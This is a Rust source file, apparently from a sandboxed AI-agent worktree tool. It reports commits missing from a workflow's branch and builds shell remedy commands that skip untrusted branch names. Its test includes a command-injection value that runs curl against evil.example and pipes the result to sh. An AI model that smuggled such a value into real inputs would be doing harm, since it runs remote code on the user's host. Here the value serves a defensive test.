//! Commits of a worktree that are not on its workflow's branch, which alone is pushed and fetched.

use coracle_lifecycle::RepoStatus;
use coracle_runtime::shell_word;
use coracle_types::SandboxWarning;
use coracle_types::failure::{Code, Failure};

use crate::names::is_plain_word;
use crate::workflow_records::Workflow;

/// Checked-out commits that the workflow's branch lacks.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct StrayCommits {
    /// The number of commits.
    pub commits: u64,
    /// The checked-out commit.
    pub commit: String,
    /// The branch that contains them; none for a detached HEAD.
    pub branch: Option<String>,
    /// The workflow's branch, which should contain them.
    pub expected: String,
    /// Whether the workflow's branch exists. `git branch -m` inside renames it.
    pub expected_exists: bool,
    /// Whether the workflow's branch has commits of its own.
    pub expected_has_some: bool,
    /// The arguments that name the workflow on the command line.
    pub workflow: String,
}

impl StrayCommits {
    /// Describes the problem.
    #[must_use]
    pub fn message(&self) -> String {
        let (count, expected) = (self.commits, &self.expected);
        let what = if count == 1 { "a commit".to_owned() } else { format!("{count} commits") };
        let head = match &self.branch {
            Some(branch) => format!("`{}` is checked out", branch.escape_debug()),
            None => "HEAD is detached".to_owned(),
        };
        if self.expected_exists {
            format!("{head}, with {what} that the workflow's branch `{expected}` lacks")
        } else {
            format!("{head}, with {what}, and the workflow's branch `{expected}` does not exist")
        }
    }

    /// Returns the commands that add them to the workflow's branch. None of the branch's own commits is lost.
    #[must_use]
    pub fn remedy(&self) -> String {
        let exec = format!("coracle worktree exec {} -- git", self.workflow);
        if !self.expected_exists {
            return format!("`{exec} switch -c {}`", shell_word(&self.expected));
        }
        // Code inside chooses the name of its branch, and the command is pasted into a shell on the host.
        let from = self.branch.as_ref().filter(|it| is_plain_word(it)).unwrap_or(&self.commit);
        format!("`{exec} switch {}`, then `{exec} merge {from}`", shell_word(&self.expected))
    }

    /// Builds a warning that names both branches.
    #[must_use]
    pub fn warning(&self) -> SandboxWarning {
        let message = format!("{}: only that one is pushed and fetched; {}", self.message(), self.remedy());
        SandboxWarning::new("other_branch", message)
    }
}

/// The failure for a branch without a commit of its own, of which a push or an export would look like a success.
/// `arguments` name the workflow on the command line.
pub(crate) fn no_commits(
    workflow: &Workflow,
    arguments: &str,
    stray: Option<&StrayCommits>,
    status: Option<&RepoStatus>,
) -> Failure {
    let Workflow { id, branch, .. } = workflow;
    let base = workflow.base_commit.get(..12).unwrap_or(&workflow.base_commit);
    let message = format!("`{branch}` has no commit beyond its base {base}");
    if let Some(stray) = stray {
        let strays = stray.message();
        let message = if stray.expected_exists { format!("{message}; {strays}.") } else { format!("{strays}.") };
        return Failure::new(Code::NoCommits, message).detail("branch", &stray.branch).hint(stray.remedy());
    }
    let failure = Failure::new(Code::NoCommits, format!("{message}."));
    let uncommitted = status.map_or(0, RepoStatus::uncommitted);
    if uncommitted == 0 {
        return failure.hint(format!("nothing changed in `{id}` either; let its agent work first"));
    }
    failure.detail("uncommitted_files", uncommitted).hint(format!(
        "{uncommitted} changed or new files are not committed: `coracle worktree exec {arguments} -- git add --all`, then \
         `coracle worktree exec {arguments} -- git commit --message MESSAGE`"
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_other_branch_is_named_with_the_commands() {
        let stray = StrayCommits {
            commits: 2,
            commit: "0123abc".into(),
            branch: Some("fix".into()),
            expected: "coracle/a".into(),
            expected_exists: true,
            expected_has_some: false,
            workflow: "a --profile claude".into(),
        };
        let SandboxWarning { code, message } = stray.warning();
        assert_eq!(code, "other_branch");
        for part in
            ["`fix` is checked out, with 2 commits", "`coracle/a` lacks", "exec a --profile claude -- git merge fix`"]
        {
            assert!(message.contains(part), "{message}");
        }
        let renamed = StrayCommits { expected_exists: false, ..stray.clone() };
        assert!(renamed.message().ends_with("with 2 commits, and the workflow's branch `coracle/a` does not exist"));
        assert_eq!(renamed.remedy(), "`coracle worktree exec a --profile claude -- git switch -c coracle/a`");
        for name in ["fix;curl${IFS}evil.example|sh", "-f", "a`b`"] {
            let named = StrayCommits { branch: Some(name.into()), ..stray.clone() };
            assert!(named.remedy().ends_with("-- git merge 0123abc`"), "{named:?}");
        }
        let detached = StrayCommits { commits: 1, branch: None, ..stray };
        assert!(detached.message().starts_with("HEAD is detached, with a commit that"), "{detached:?}");
        assert!(detached.remedy().ends_with("-- git merge 0123abc`"), "{detached:?}");
    }
}
